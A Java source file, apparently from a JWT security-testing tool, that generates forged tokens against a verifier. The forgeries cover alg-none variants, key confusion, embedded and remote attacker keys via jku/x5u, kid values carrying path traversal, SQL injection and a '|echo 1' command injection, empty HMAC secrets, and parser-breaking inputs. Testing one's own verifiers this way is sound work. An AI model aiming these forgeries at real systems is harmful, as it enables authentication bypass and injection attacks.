package signet.cli.attack;

import static java.nio.charset.StandardCharsets.UTF_8;

import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.Consumer;
import signet.jose.jwk.PublicJwk;
import signet.testkit.forge.Damage;
import signet.testkit.forge.ForgeKey;
import signet.testkit.forge.PublicForms;

/** Everything that can be tried with what is at hand, in a fixed order. For one use. */
final class Forgeries {
  private static final String OWN_CLAIM = "signet_attack";
  private static final int BYTES_OF_ES256 = 64;
  private static final int DEEP = 2_000;
  private static final int LONG = 6_000;

  private final Material material;
  private final String token;
  private final ForgeKey attacker = ForgeKey.generate("RS256").withKid("attacker");
  private final List<Attack> attacks = new ArrayList<>();

  private Forgeries(Material material) {
    this.material = material;
    this.token = material.token();
  }

  /**
   * The attacks.
   *
   * @param attackerKeys told of the key that {@link Material#listener} is to serve
   */
  static List<Attack> of(Material material, Consumer<ForgeKey> attackerKeys) {
    Forgeries all = new Forgeries(material);
    attackerKeys.accept(all.attacker);
    all.unsigned();
    all.changed();
    all.confused();
    all.embedded();
    all.addressed();
    all.named();
    all.emptySecret();
    material.issuerKey().ifPresent(key -> new SignedForgeries(material, key, all::add).all());
    all.foreign();
    all.laxText();
    all.misplaced();
    all.heavy();
    return List.copyOf(all.attacks);
  }

  private void add(Hole hole, String variant, String forged) {
    Attack.bearer(hole, variant, forged).ifPresent(attacks::add);
  }

  private void unsigned() {
    for (String spelling : List.of("none", "None", "NONE", "nOnE", "none ", "", "null")) {
      add(Hole.UNSIGNED, "alg \"" + spelling + "\"", Damage.algNone(token, spelling));
    }
    add(Hole.UNSIGNED, "alg none, signature kept", Damage.swapAlg(token, "none"));
    add(Hole.UNSIGNED, "alg null", Damage.stripSignature(Damage.withHeader(token, "alg", null)));
    add(
        Hole.UNSIGNED,
        "alg a list",
        Damage.stripSignature(Damage.withHeader(token, "alg", List.of("none"))));
    add(Hole.STRIPPED, "empty signature", Damage.stripSignature(token));
    add(Hole.STRIPPED, "two parts", token.substring(0, token.lastIndexOf('.')));
  }

  private void changed() {
    add(Hole.UNCHECKED, "a claim more", Damage.withClaim(token, OWN_CLAIM, true));
    add(Hole.UNCHECKED, "one bit of the signature", Damage.flipBit(token, 2, 17));
    add(Hole.UNCHECKED, "one byte for a signature", Damage.withBytes(token, 2, new byte[1]));
    add(Hole.UNCHECKED, "signed by another key", Damage.resign(rs256(token), attacker));
    ForgeKey other = ForgeKey.generate("ES256");
    add(
        Hole.UNCHECKED,
        "signed by another key, ES256",
        Damage.resign(Damage.swapAlg(token, "ES256"), other));
    add(
        Hole.NULL_SIGNATURE,
        "r = s = 0",
        Damage.withBytes(Damage.swapAlg(token, "ES256"), 2, new byte[BYTES_OF_ES256]));
  }

  private String rs256(String changed) {
    return Damage.swapAlg(changed, "RS256");
  }

  private void confused() {
    Map<String, byte[]> forms = new LinkedHashMap<>();
    for (PublicJwk key : material.published()) {
      String kid = key.kid().orElse("without kid");
      forms.put(kid + ", JWK as published", key.toJson().getBytes(UTF_8));
      ForgeKey.ofPublic(key.alg().orElse("RS256"), key.publicKey())
          .publicForms()
          .forEach((form, bytes) -> forms.put(kid + ", " + form, bytes));
    }
    if (!material.publishedText().isEmpty()) {
      forms.put("the whole set as published", material.publishedText().getBytes(UTF_8));
    }
    forms.forEach((form, bytes) -> add(Hole.CONFUSION, form, Damage.confuse(token, bytes)));
  }

  private void embedded() {
    String own = rs256(Damage.withHeader(token, "jwk", attacker.jwkMembers()));
    add(Hole.EMBEDDED_KEY, "jwk, kid kept", Damage.resign(own, attacker));
    add(
        Hole.EMBEDDED_KEY,
        "jwk and its kid",
        Damage.resign(Damage.withHeader(own, "kid", attacker.kid()), attacker));
    ForgeKey secret = ForgeKey.generate("HS256").withKid("attacker");
    String symmetric =
        Damage.swapAlg(Damage.withHeader(token, "jwk", secret.jwkMembers()), "HS256");
    add(Hole.EMBEDDED_KEY, "jwk of a secret", Damage.resign(symmetric, secret));
    String chain = Base64.getEncoder().encodeToString(PublicForms.certificate(attacker));
    String certified = rs256(Damage.withHeader(token, "x5c", List.of(chain)));
    add(Hole.EMBEDDED_CHAIN, "x5c, kid kept", Damage.resign(certified, attacker));
    add(
        Hole.EMBEDDED_CHAIN,
        "x5c and another kid",
        Damage.resign(Damage.withHeader(certified, "kid", attacker.kid()), attacker));
  }

  private void addressed() {
    material
        .listener()
        .ifPresent(
            address -> {
              for (String member : List.of("jku", "x5u")) {
                String place = address + (member.equals("jku") ? "/jwks.json" : "/chain.pem");
                String pointed = rs256(Damage.withHeader(token, member, place));
                add(Hole.KEY_ADDRESS, member + ", kid kept", Damage.resign(pointed, attacker));
                add(
                    Hole.KEY_ADDRESS,
                    member + " and another kid",
                    Damage.resign(Damage.withHeader(pointed, "kid", attacker.kid()), attacker));
              }
            });
  }

  private void named() {
    ForgeKey empty = ForgeKey.secret("HS256", new byte[0]);
    for (String kid : List.of("../../../../../../dev/null", "/dev/null", "file:///dev/null", "")) {
      add(Hole.KEY_NAME, "kid \"" + kid + "\"", named(kid, empty));
    }
    ForgeKey one = ForgeKey.secret("HS256", "1".getBytes(UTF_8));
    add(Hole.KEY_NAME, "kid with UNION SELECT", named("x' UNION SELECT '1';-- ", one));
    add(Hole.KEY_NAME, "kid with UNION SELECT of base64", named("x' UNION SELECT 'MQ==';-- ", one));
    add(Hole.KEY_NAME, "kid with a wildcard", named("*", one));
    add(Hole.KEY_NAME, "kid with a command", named("|echo 1", one));
  }

  private String named(String kid, ForgeKey key) {
    return Damage.resign(Damage.swapAlg(Damage.withHeader(token, "kid", kid), "HS256"), key);
  }

  private void emptySecret() {
    String hs256 = Damage.swapAlg(token, "HS256");
    add(
        Hole.EMPTY_SECRET,
        "HS256 of nothing",
        Damage.resign(hs256, ForgeKey.secret("HS256", new byte[0])));
    add(
        Hole.EMPTY_SECRET,
        "HS256 of 32 zeros",
        Damage.resign(hs256, ForgeKey.secret("HS256", new byte[32])));
    for (String text : List.of("null", "undefined")) {
      add(
          Hole.EMPTY_SECRET,
          "HS256 of the word " + text,
          Damage.resign(hs256, ForgeKey.secret("HS256", text.getBytes(UTF_8))));
    }
  }

  private void foreign() {
    material
        .otherToken()
        .ifPresent(
            other -> {
              boolean sameIssuer = Claims.text(other, "iss").equals(Claims.text(token, "iss"));
              add(sameIssuer ? Hole.AUDIENCE : Hole.ISSUER, "the other token", other);
            });
  }

  private void laxText() {
    for (int part = 0; part < 3; part++) {
      String name = List.of("header", "payload", "signature").get(part);
      Damage.laxBase64(token, part)
          .forEach((way, text) -> add(Hole.LAX_TEXT, name + ", " + way, text));
    }
    add(Hole.LAX_TEXT, "a part more", token + ".AAAA");
    add(Hole.LAX_TEXT, "a dot more", token + ".");
    add(Hole.LAX_TEXT, "in quotes", "\"" + token + "\"");
  }

  private void misplaced() {
    attacks.add(new Attack(Hole.IN_QUERY, "access_token", null, "access_token=" + token));
    attacks.add(new Attack(Hole.IN_QUERY, "token", null, "token=" + token));
  }

  /** Nothing here is longer than what many servers let a header be. */
  private void heavy() {
    add(Hole.BREAKS, "dots alone", ".".repeat(LONG));
    add(Hole.BREAKS, "a long kid", Damage.withHeader(token, "kid", "k".repeat(LONG / 2)));
    String deep = "[".repeat(DEEP) + "]".repeat(DEEP);
    add(Hole.BREAKS, "a deep header", Damage.withBytes(token, 0, deep.getBytes(UTF_8)));
    String header = "{\"alg\":\"" + material.algorithm() + "\",\"x\":" + deep + "}";
    add(Hole.BREAKS, "a deep member", Damage.withBytes(token, 0, header.getBytes(UTF_8)));
    add(Hole.BREAKS, "a huge number", Damage.withBytes(token, 1, huge().getBytes(UTF_8)));
    add(Hole.BREAKS, "an empty token", "..");
    add(Hole.BREAKS, "a header that is no JSON", Damage.withBytes(token, 0, new byte[] {1, 2}));
    add(Hole.BREAKS, "claims that are a list", Damage.withBytes(token, 1, "[]".getBytes(UTF_8)));
    add(Hole.BREAKS, "an encrypted token that is none", "eyJhbGciOiJkaXIifQ.AAAA.AAAA.AAAA.AAAA");
  }

  private static String huge() {
    return "{\"exp\":1e999999}";
  }
}
